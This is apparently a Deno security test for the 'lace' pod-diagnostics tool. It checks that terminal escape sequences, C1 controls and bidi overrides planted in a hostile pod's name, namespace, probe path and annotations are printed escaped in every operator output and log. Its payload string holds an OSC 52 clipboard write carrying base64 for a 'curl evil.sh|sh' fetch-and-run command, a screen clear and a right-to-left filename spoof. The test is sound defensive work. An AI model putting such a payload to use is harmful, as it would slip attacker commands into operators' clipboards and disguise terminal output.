/**
 * A pod author's bytes must not reach the operator's root terminal as controls (an OSC 52
 * clipboard write in a probe's httpGet.path, shown by `lace doctor pod`). Plays the pod author:
 * escape sequences, C1 controls and bidi overrides in the pod's name, namespace, container, probe
 * path and network annotation, and in what its server answers, through every output an operator
 * reads: `lace targets`, `lace doctor`, `lace doctor pod`, `lace doctor probes`, `lace netcheck`,
 * the agent's logs, text and JSON.
 */
import assert from "node:assert/strict";
import { getLogger } from "@logtape/logtape";
import { probeTargetsForPod } from "../lib/rules/targets.ts";
import type { Pod } from "../lib/pods/pod.ts";
import type { TargetView } from "../lib/agent_api/views.ts";
import { targetsJson, targetsTable } from "../lib/agent_api/text.ts";
import { podRows, podTable } from "../lib/doctor/pod.ts";
import { type ProbeReport, probesTable } from "../lib/doctor/probes.ts";
import { checksText } from "../lib/doctor/command.ts";
import { check } from "../lib/doctor/check.ts";
import { textReport } from "../lib/netcheck/report/formats.ts";
import { Summary } from "../lib/netcheck/report/summary.ts";
import { setupLogging } from "../lib/log/setup.ts";
import { safeJson } from "../lib/text/safe.ts";

/** Clipboard write (OSC 52), clear screen (CSI), C1 CSI, bidi override and isolate, a new row. */
const PAYLOAD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\u009b8m\u202etxt.exe\u2066\nok  ";

/** A terminal acts on, or does not show as itself, any of these. */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|\p{Cs}/u;

/** The hostile pod, as the pods directory (no API server validation) would hand it over. */
const POD: Pod = {
  metadata: {
    name: `web${PAYLOAD}`,
    namespace: `shop${PAYLOAD}`,
    uid: "u1",
    creationTimestamp: "2026-01-01T00:00:00Z",
    annotations: {
      "lace.io/network": `blue${PAYLOAD}`,
      "lace.io/network-id": "7",
      "note": PAYLOAD,
    },
  },
  spec: {
    containers: [{
      name: `app${PAYLOAD}`,
      readinessProbe: { httpGet: { port: 8080, path: `/ready${PAYLOAD}` } },
      livenessProbe: { tcpSocket: { port: 9000 } },
    }],
  },
  status: { phase: "Running", podIPs: [{ ip: "10.1.0.5" }] },
};

/**
 * The pod's targets as the agent's /targets serves them (lib/agent/start.ts). The rules refuse
 * the annotation's name, and every way the node's network comes in holds it to the same rule
 * (lib/probe/network_name.ts); handed to the rules unchecked here, it shows that the output escapes
 * whatever name reaches it.
 */
function views(): TargetView[] {
  const { targets } = probeTargetsForPod(POD, {
    networkAnnotation: "lace.io/network",
    networkIdAnnotation: "lace.io/network-id",
  }, { network: `blue${PAYLOAD}`, networkId: 7 });
  assert.ok(targets.length > 0, "the hostile pod got no targets: the test shows nothing");
  return targets.map((t) => ({
    family: t.key.family,
    address: t.key.address,
    port: t.key.port,
    networkId: t.networkId,
    mark: 0x71000,
    pod: `${t.pod.namespace}/${t.pod.name}`,
    network: `blue${PAYLOAD}`,
    container: t.container,
    probe: t.probe,
    handler: t.handler,
    ...(t.http ? { httpPath: t.http.path, httpScheme: t.http.scheme } : {}),
    hits: 3,
    lastHitAgeSeconds: 2,
  }));
}

function reports(vs: TargetView[]): ProbeReport[] {
  return vs.map((v) => ({
    pod: v.pod!,
    networkId: v.networkId,
    address: v.address,
    port: v.port,
    result: "ERROR",
    httpStatus: null,
    mark: v.mark,
    error: `the pod answered ${PAYLOAD}`,
  }));
}

/**
 * Asserts `text` carries the payload escaped, never raw: the newlines left are the output's own
 * (the payload's shows as `\x0a`).
 */
function assertEscaped(what: string, text: string): void {
  const raw = text.replaceAll("\n", "").match(UNSAFE);
  assert.equal(raw, null, `${what} prints ${JSON.stringify(raw?.[0])} raw:\n${text}`);
  for (const shown of ["\\x1b]52;c;", "\\x9b8m", "\\u202etxt", "\\x0aok"]) {
    assert.ok(text.includes(shown), `${what} does not show ${shown}:\n${text}`);
  }
}

Deno.test("operator output never prints a pod's escape sequences, C1 controls or bidi characters raw", () => {
  const vs = views();
  assert.ok(vs.some((v) => v.httpPath?.includes("\x1b]52")), "the path reached the view");
  const rows = podRows(vs, reports(vs));
  // Each line below is what a command prints (lib/agent_api/text.ts, lib/doctor/command.ts).
  assertEscaped("lace targets", targetsTable(vs));
  assertEscaped("lace doctor pod", podTable(rows));
  assertEscaped("lace doctor probes", probesTable(reports(vs)));
  assertEscaped(
    "lace doctor",
    checksText([check("pods", false, `pod ${vs[0].pod} is unhappy`, `look at ${PAYLOAD}`)], false),
  );
  const summary = new Summary(2);
  summary.nodes = [`node${PAYLOAD}`];
  summary.add({
    phase: "connect",
    from: `node${PAYLOAD}`,
    to: "b",
    fromPod: "x",
    toPod: "y",
    ok: false,
    errorClass: "OTHER",
    message: PAYLOAD,
    attempts: 1,
    durationMs: 3,
  });
  assertEscaped(
    "lace netcheck",
    textReport(summary, {
      runId: "r",
      status: "failed",
      minBandwidthBps: 0,
      asymmetryFactor: 2,
    }),
  );
});

Deno.test("operator JSON keeps a pod's values exact and writes their control and bidi characters as JSON escapes", () => {
  const vs = views();
  const text = targetsJson(vs);
  assert.equal(text.match(UNSAFE), null, text);
  const parsed = JSON.parse(text) as TargetView[];
  assert.deepEqual(
    parsed.map((t) => t.pod),
    vs.map((v) => v.pod),
    "a JSON consumer gets the values the API holds",
  );
  assert.ok(text.includes("\\u009b") && text.includes("\\u202e"), text);
  // `lace doctor pod --json` and `lace doctor --json` write theirs the same way.
  const doc = { pod: vs[0].pod, probes: podRows(vs, reports(vs)) };
  assert.equal(safeJson(doc, 2).replaceAll("\n", "").match(UNSAFE), null);
  assert.deepEqual(JSON.parse(safeJson(doc, 2)), doc);
});

Deno.test("the agent's logs never carry a pod's escape sequences raw, as text or JSON", () => {
  for (const format of ["text", "json"] as const) {
    const out: string[] = [];
    setupLogging("info", format, (bytes) => out.push(new TextDecoder().decode(bytes)));
    try {
      const log = getLogger(["lace", "attacker"]);
      log.warn("Probe of {pod} skipped: {path}", { pod: vs0().pod, path: vs0().httpPath });
      log.error("Pod {pod} failed: {error}", {
        pod: vs0().pod,
        error: new Error(`bad ${PAYLOAD}`),
      });
      log.info("Annotations {annotations}", { annotations: POD.metadata.annotations });
    } finally {
      setupLogging("info", "json", () => {});
    }
    // The text formatter's own colours are the only escape sequences left.
    // deno-lint-ignore no-control-regex
    const text = out.join("").replace(/\x1b\[[0-9;]*m/g, "").replaceAll("\n", "");
    assert.equal(text.match(UNSAFE), null, `${format}: ${JSON.stringify(text)}`);
    assert.equal(out.length, 3, format);
    if (format === "json") { for (const line of out) JSON.parse(line); }
  }
});

function vs0(): TargetView {
  return views().find((v) => v.httpPath !== undefined)!;
}
